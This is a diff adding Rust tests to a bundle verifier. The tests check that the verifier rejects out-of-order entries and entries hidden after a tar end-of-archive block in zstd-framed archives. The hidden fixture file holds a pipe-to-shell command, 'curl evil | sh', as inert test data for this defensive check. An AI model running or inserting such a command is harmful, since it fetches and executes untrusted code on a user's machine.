@@ -6,7 +6,10 @@ mod common;
 
 use std::path::PathBuf;
 
-use common::craft::{read_entries, sample_bundle, write_entries, write_entries_framed, RawEntry};
+use common::craft::{
+    raw_tar, read_entries, sample_bundle, write_entries, write_entries_framed, write_raw_frames,
+    RawEntry,
+};
 use common::{redact, Session};
 
 struct Fixture {
@@ -197,6 +200,83 @@ fn verify_rejects_entries_out_of_order() {
         &run,
         "entry `files/b.bin` is out of order: the index lists `files/a.txt` next",
     );
+}
+
+#[test]
+fn verify_rejects_an_out_of_order_entry_that_is_also_damaged_as_out_of_order() {
+    // The frame holding `c.yaml` starts where `b.bin` should: a single pass meets the
+    // order first, and so must a read frame by frame.
+    let f = fixture();
+    let run = f.tampered(|e| {
+        let b = Fixture::position(e, "files/b.bin");
+        e.remove(b);
+        let c = Fixture::position(e, "files/c.yaml");
+        e[c].declared_size = Some(e[c].data.len() as u64 + 2);
+    });
+    assert_rejected(
+        &run,
+        "entry `files/c.yaml` is out of order: the index lists `files/b.bin` next",
+    );
+}
+
+#[test]
+fn verify_rejects_entries_hidden_after_an_end_of_archive_block() {
+    // tar stops at the first zero block: whatever follows is never extracted, so a
+    // bundle hiding an entry there is not the bundle that was signed.
+    let f = fixture();
+    let entries = read_entries(&f.bundle);
+    let evil = RawEntry::file("files/EVIL.sh", b"curl evil | sh\n");
+    let zero_block = vec![0u8; 512];
+    let out = f.s.path("hidden.tar.zst");
+
+    // Frame by frame: a zero block and a hidden entry inside a middle frame...
+    let mut frames = vec![raw_tar(&entries[..2])];
+    frames.push(
+        [
+            raw_tar(&entries[2..3]),
+            zero_block.clone(),
+            raw_tar(&[evil.clone()]),
+        ]
+        .concat(),
+    );
+    frames.push([raw_tar(&entries[3..]), vec![0u8; 1024]].concat());
+    write_raw_frames(&frames, &out);
+    assert_rejected(
+        &f.verify(&out),
+        "zstd frame 1 holds data after an end-of-archive block; tar would not extract it",
+    );
+    // ... or after the end of the last one.
+    let last = frames.len() - 1;
+    frames[1] = raw_tar(&entries[2..3]);
+    frames[last].extend(raw_tar(&[evil.clone()]));
+    write_raw_frames(&frames, &out);
+    assert_rejected(
+        &f.verify(&out),
+        "zstd frame 2 holds data after an end-of-archive block; tar would not extract it",
+    );
+
+    // In one pass: an entry after the end-of-archive blocks.
+    let tar_bytes = [
+        raw_tar(&entries),
+        vec![0u8; 1024],
+        raw_tar(&[evil]),
+        vec![0u8; 1024],
+    ]
+    .concat();
+    std::fs::write(&out, zstd::encode_all(tar_bytes.as_slice(), 3).unwrap()).unwrap();
+    assert_rejected(
+        &f.verify(&out),
+        "the archive holds data after its end-of-archive block; tar would not extract it",
+    );
+    // Control: the same frames without the hidden entry verify.
+    let frames = vec![
+        raw_tar(&entries[..2]),
+        raw_tar(&entries[2..3]),
+        [raw_tar(&entries[3..]), vec![0u8; 1024]].concat(),
+    ];
+    write_raw_frames(&frames, &out);
+    let run = f.verify(&out);
+    assert_eq!(run.code, 0, "{}", run.transcript());
 }
 
 #[test]
